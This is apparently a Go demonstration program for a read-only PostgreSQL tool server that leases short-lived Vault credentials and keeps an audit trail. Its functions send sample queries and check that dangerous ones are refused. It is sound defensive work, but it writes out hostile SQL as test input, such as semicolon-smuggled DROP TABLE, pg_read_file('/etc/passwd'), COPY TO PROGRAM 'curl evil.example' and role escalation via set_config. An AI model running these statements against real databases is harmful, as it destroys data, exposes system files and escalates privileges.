//go:build unix

package main

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/safemcp/safemcp/audit"
)

func (g *guide) goodQuery(ctx context.Context) error {
	g.section("A good query")
	if err := g.call(ctx, "list_tables", map[string]any{}, false, "public.books"); err != nil {
		return err
	}
	err := g.query(ctx, false, "The Dispossessed", "SELECT title, published FROM books WHERE author = $1 AND published > $2", "Ursula K. Le Guin", 1970)
	if err == nil {
		g.page.Sayf("\nThe values travel beside the statement, never in its text. Each tool was lent a user of its own that Vault has made for it, with a lease of five minutes.")
	}
	return err
}

func (g *guide) write(ctx context.Context) error {
	g.section("A write that is refused")
	if err := g.query(ctx, true, "One SELECT is taken", "DELETE FROM books"); err != nil {
		return err
	}
	if err := g.query(ctx, true, "data-modifying", "WITH gone AS (DELETE FROM books RETURNING id) SELECT count(*) FROM gone"); err != nil {
		return err
	}
	if err := g.query(ctx, false, "[[false]]", "SELECT has_table_privilege('books', 'DELETE') AS may_delete"); err != nil {
		return err
	}
	g.page.Sayf("\nThe statement becomes the end of a DECLARE CURSOR, where PostgreSQL's own grammar takes a SELECT and nothing else; the transaction is READ ONLY and is rolled back; and the role may do nothing but SELECT. Each would be enough.")
	return nil
}

func (g *guide) secondStatement(ctx context.Context) error {
	g.section("A second statement behind a semicolon")
	if err := g.query(ctx, true, "42601", "COMMIT; DROP TABLE books"); err != nil {
		return err
	}
	if err := g.query(ctx, true, "multiple commands", "SELECT 1; DROP TABLE books"); err != nil {
		return err
	}
	g.page.Sayf("\nThis is how read-only servers for PostgreSQL were escaped. By the extended protocol the database itself takes one statement and refuses more; nobody looks for semicolons.")
	return nil
}

func (g *guide) files(ctx context.Context) error {
	g.section("Files, programs, another role")
	for _, try := range []struct{ sql, says string }{
		{"SELECT pg_read_file('/etc/passwd')", "permission denied"},
		{"COPY books TO PROGRAM 'curl evil.example'", "One SELECT is taken"},
		{"SELECT set_config('role', 'postgres', false)", "permission denied"},
		{"SELECT set_config('transaction_read_only', 'off', false)", "must be set before any query"},
	} {
		if err := g.query(ctx, true, try.says, try.sql); err != nil {
			return err
		}
	}
	return nil
}

func (g *guide) tooMuch(ctx context.Context) error {
	g.section("Too long, and too much")
	if err := g.query(ctx, true, "took too long", "SELECT pg_sleep(600)"); err != nil {
		return err
	}
	return g.query(ctx, false, `"truncated":true`, "SELECT n FROM generate_series(1, 5000) AS n")
}

func (g *guide) revoked(ctx context.Context) error {
	g.section("Somebody revokes the lease, and the next call works all the same")
	before := g.postgres.Run("SELECT string_agg(rolname, ' ') FROM pg_roles WHERE rolname LIKE 'v-%'")
	g.page.Labelled("operator", "2", "vault lease revoke -prefix database/creds/"+vaultRole)
	g.vault.Write("sys/leases/revoke-prefix/database/creds/"+vaultRole, nil)
	left := g.postgres.Run("SELECT count(*) FROM pg_roles WHERE rolname LIKE 'v-%'")
	g.page.Labelled("PostgreSQL", "2", fmt.Sprintf("%s of the users %s are left", left, before))
	if left != "0" {
		return errors.New("the users whose leases were revoked are there")
	}
	if err := g.query(ctx, false, "Middlemarch", "SELECT title FROM books WHERE id = $1", 1); err != nil {
		return err
	}
	g.page.Sayf("\nThe connections of the old user were ended with it. The server asked Vault once for another, opened connections with that, and ran the statement, all within the call.")
	return nil
}

// followed shows one call in all three logs.
func (g *guide) followed(ctx context.Context) error {
	g.section("One call in three logs")
	if err := g.query(ctx, false, "Pedro", "SELECT title FROM books WHERE shelf IS NULL"); err != nil {
		return err
	}
	j, err := g.follow(g.trail())
	switch {
	case errors.Is(err, errUnnamed):
		g.page.Sayf("\nThe events of this version do not name Vault's request yet, so that the trail ends here.")
		return nil
	case err != nil:
		return err
	}
	g.page.Labelled("our log", "2", fmt.Sprintf("call %s of %s had a credential of Vault's request %s", j.Call, j.Tool, j.Request))
	g.page.Labelled("Vault's log", "2", fmt.Sprintf("request %s read %s and was given the user %s", j.Request, j.Path, j.Hash))
	g.page.Labelled("PostgreSQL's log", "2", fmt.Sprintf("the user %s, of whom that is the HMAC, ran:\n%s", j.Role, strings.Join(j.Statements, "\n")))
	return nil
}

// afterwards shows what is there when the server has ended.
func (g *guide) afterwards() error {
	g.section("The audit trail of this run")
	if err := audit.WriteTable(g.page.W, audit.Read(g.trail()), &audit.TableOptions{Header: true, Colour: g.page.Colour}); err != nil {
		return err
	}
	report, err := audit.Verify(g.trail(), nil)
	if err != nil {
		return err
	}
	if report.Bad != nil || report.Unfinished > 0 {
		return errors.New("the log of the run does not verify")
	}

	g.section("The roles that PostgreSQL saw, and what is left of them")
	seen := g.statements()
	roles := slices.SortedFunc(maps.Keys(seen), func(a, b string) int { // in the order in which they came
		log := g.postgres.Log()
		return cmp.Compare(strings.Index(log, "\n"+a+" "), strings.Index(log, "\n"+b+" "))
	})
	for _, role := range roles {
		g.page.Labelled(fmt.Sprintf("%d statements", len(seen[role])), "2", role)
		if strings.Contains(g.answers.String(), role) {
			return fmt.Errorf("the model has read the name of the role %s", role)
		}
	}
	g.nothingIsLeft()
	g.page.Labelled("left in Vault", "2", "no lease")
	g.page.Labelled("in PostgreSQL", "2", "no user of Vault's, and every book:\n"+g.postgres.In(sampleDatabase, "SELECT count(*) || ' books, ' || (SELECT count(*) FROM loans) || ' loans' FROM books"))
	g.page.Sayf("\nThat was the session. README.md beside this program sets up your own Vault and PostgreSQL for it.\n")
	return nil
}

// nothingIsLeft waits until Vault has no lease of ours and PostgreSQL no user.
func (s *stage) nothingIsLeft() {
	s.vault.Until("no lease and no user is left", func() bool {
		return len(s.vault.List("sys/leases/lookup/database/creds/"+vaultRole)) == 0 && s.postgres.Run("SELECT count(*) FROM pg_roles WHERE rolname LIKE 'v-%'") == "0"
	})
}
